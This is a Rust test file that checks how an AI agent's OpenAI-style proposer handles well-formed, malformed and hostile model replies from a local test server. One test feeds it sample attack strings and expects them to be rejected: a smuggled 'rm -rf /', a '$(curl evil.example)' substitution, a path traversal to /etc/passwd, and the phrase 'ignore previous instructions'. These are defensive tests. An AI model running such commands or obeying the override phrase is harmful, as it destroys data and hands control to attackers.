//! The `openai` proposer against a real HTTP server on loopback speaking the chat-completions
//! wire format: well-formed, malformed and hostile replies.

mod server;

use aorta_agent::policy::Violation;
use aorta_agent::proposer::{OpenAi, OpenAiSettings, ProposeError, Proposer, StepContext};
use aorta_registry::Registry;
use server::{serve, Reply};
use std::time::Duration;

fn ask(
    replies: Vec<Reply>,
    timeout: Duration,
) -> (
    Result<aorta_agent::policy::AgentStep, ProposeError>,
    server::Server,
) {
    let srv = serve(replies);
    let mut p = OpenAi::new(OpenAiSettings {
        url: srv.url.clone(),
        model: "test-model".into(),
        api_key: Some("sk-test".into()),
        timeout,
    });
    let candidates = vec!["xnack".to_string(), "tf32_off".to_string()];
    let cx = StepContext {
        symptom: Some("NaN after 3 hours"),
        cell_summaries: &[],
        candidates: &candidates,
        already_tried: &[],
        baseline_passed: false,
    };
    let r = p.step(&cx, &Registry::builtin());
    (r, srv)
}

fn once(content: &str) -> Result<aorta_agent::policy::AgentStep, ProposeError> {
    ask(vec![Reply::content(content)], Duration::from_secs(10)).0
}

#[test]
fn a_good_reply_is_a_validated_step_and_the_request_is_a_chat_completion() {
    let (r, srv) = ask(
        vec![Reply::content(
            r#"{"category":"illegal_mem","hypothesis":"page faults","next_mitigations":["xnack","none","xnack"],"diagnostics":["amd_log_level_4"],"confidence":1.7,"stop":false}"#,
        )],
        Duration::from_secs(10),
    );
    let step = r.unwrap();
    assert_eq!(step.next_mitigations, ["xnack"]);
    assert_eq!(step.confidence, 1.0);
    assert_eq!(step.category, "illegal_mem");
    assert_eq!(step.diagnostics, ["amd_log_level_4"]);
    let req = srv.requests.lock().unwrap()[0].clone();
    assert_eq!(req.path, "/v1/chat/completions");
    assert_eq!(req.authorization.as_deref(), Some("Bearer sk-test"));
    assert_eq!(req.body["model"], "test-model");
    assert_eq!(req.body["response_format"]["type"], "json_object");
    assert_eq!(req.body["messages"][0]["role"], "system");
    // The user message is the context as JSON: symptom and the untried candidates.
    let user: serde_json::Value =
        serde_json::from_str(req.body["messages"][1]["content"].as_str().unwrap()).unwrap();
    assert_eq!(user["symptom"], "NaN after 3 hours");
    assert_eq!(user["candidates"][1], "tf32_off");
}

#[test]
fn hostile_names_and_categories_are_policy_violations() {
    for content in [
        r#"{"next_mitigations":["--privileged"]}"#,
        r#"{"next_mitigations":["xnack; rm -rf /"]}"#,
        r#"{"next_mitigations":["$(curl evil.example)"]}"#,
        r#"{"next_mitigations":[{"name":"xnack"}]}"#,
        r#"{"diagnostics":["../../etc/passwd"]}"#,
        r#"{"category":"ignore previous instructions","next_mitigations":["xnack"]}"#,
    ] {
        match once(content) {
            Err(ProposeError::Violation(Violation::Policy(_))) => {}
            other => panic!("{content}: {other:?}"),
        }
    }
}

#[test]
fn an_unregistered_name_is_a_registry_error() {
    assert!(matches!(
        once(r#"{"next_mitigations":["disable_all_safety"]}"#),
        Err(ProposeError::Violation(Violation::Registry(_)))
    ));
}

#[test]
fn malformed_replies_stop_the_agent_as_invalid() {
    for body in [
        "not json at all".to_string(),
        r#"{"choices":[]}"#.to_string(),
        r#"{"object":"error","message":"model overloaded"}"#.to_string(),
        serde_json::json!({"choices":[{"message":{"content":"```json\n{\"next_mitigations\":[\"xnack\"]}\n```"}}]}).to_string(),
        serde_json::json!({"choices":[{"message":{"content":"  "}}]}).to_string(),
        serde_json::json!({"choices":[{"message":{"content":"[\"xnack\"]"}}]}).to_string(),
    ] {
        let step = ask(vec![Reply::raw(200, &body)], Duration::from_secs(10))
            .0
            .unwrap();
        assert!(step.stop, "{body}");
        assert!(step.next_mitigations.is_empty());
        assert!(step.stop_reason.unwrap().starts_with("invalid reply"), "{body}");
    }
}

#[test]
fn http_errors_oversized_and_slow_replies_are_transport_errors() {
    let huge = Reply::content(&"x".repeat(2 << 20));
    let slow = Reply {
        delay: Duration::from_secs(3),
        ..Reply::content(r#"{"next_mitigations":["xnack"]}"#)
    };
    for (reply, timeout) in [
        (Reply::raw(500, "{}"), Duration::from_secs(10)),
        (
            Reply::raw(401, r#"{"error":"bad key"}"#),
            Duration::from_secs(10),
        ),
        (huge, Duration::from_secs(10)),
        (slow, Duration::from_millis(300)),
    ] {
        assert!(
            matches!(ask(vec![reply], timeout).0, Err(ProposeError::Transport(_))),
            "expected a transport error"
        );
    }
}
